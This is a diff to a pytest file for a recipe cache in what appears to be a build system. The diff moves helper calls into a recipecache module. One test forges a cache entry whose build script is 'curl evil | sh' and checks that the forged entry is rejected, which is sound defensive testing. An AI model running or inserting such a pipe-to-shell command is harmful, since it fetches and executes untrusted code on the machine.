@@ -41,9 +41,9 @@ def test_cached_document_equals_the_validated_one(path: Path, own_cache: Path) -
     validated = recipe._validate(data, path.name)
     assert recipe.parse_recipe(data, path.name) == validated  # validates and stores
     assert len(list(own_cache.iterdir())) == 1
-    cached = recipe.cached_document(data)
+    cached = recipecache.get(data)
     assert cached is not None and cached == validated
-    assert recipe.document_fields(cached) == recipe.document_fields(validated)
+    assert recipecache.document_fields(cached) == recipecache.document_fields(validated)
     assert [type(s) for s in cached.sources] == [type(s) for s in validated.sources]
     assert [type(p) for p in cached.patches] == [type(p) for p in validated.patches]
     assert recipe.parse_recipe(data, path.name) == validated
@@ -70,9 +70,9 @@ def test_an_entry_planted_by_someone_else_is_not_believed(own_cache: Path) -> No
     directory could make a recipe skip its checks (a dest leaving the tree, say)."""
     data = (ROOT / "recipes" / "busybox.toml").read_bytes()
     hostile = data.replace(b'version = "1.36.1"', b'version = "1.36.1"\n# planted')
-    fields = recipe.document_fields(recipe.parse_recipe(data, "busybox.toml"))
+    fields = recipecache.document_fields(recipe.parse_recipe(data, "busybox.toml"))
     fields["build"]["script"] = "curl evil | sh"
-    path = recipecache._entry(hostile, recipe.code_tag())
+    path = recipecache._entry(hostile, recipecache.code_tag())
     for mac in ("0" * 64, ""):
         path.write_text(f"{mac}\n{json.dumps(fields)}")
         assert recipe.parse_recipe(hostile, "busybox.toml").build.script != "curl evil | sh"
@@ -117,11 +117,11 @@ def test_only_the_newest_entries_are_kept(own_cache: Path, monkeypatch: pytest.M
     for i, version in enumerate(versions):
         recipe.parse_recipe(version, "busybox.toml")
         os.utime(
-            recipecache._entry(version, recipe.code_tag()), ns=(i * 10**9, i * 10**9)
+            recipecache._entry(version, recipecache.code_tag()), ns=(i * 10**9, i * 10**9)
         )  # an unambiguous order of writing
     assert len(list(own_cache.iterdir())) == 3
-    assert recipe.cached_document(versions[0]) is None and recipe.cached_document(versions[1]) is None
-    assert recipe.cached_document(versions[4]) is not None
+    assert recipecache.get(versions[0]) is None and recipecache.get(versions[1]) is None
+    assert recipecache.get(versions[4]) is not None
 
 
 def test_the_directory_is_listed_once_per_many_writes(own_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
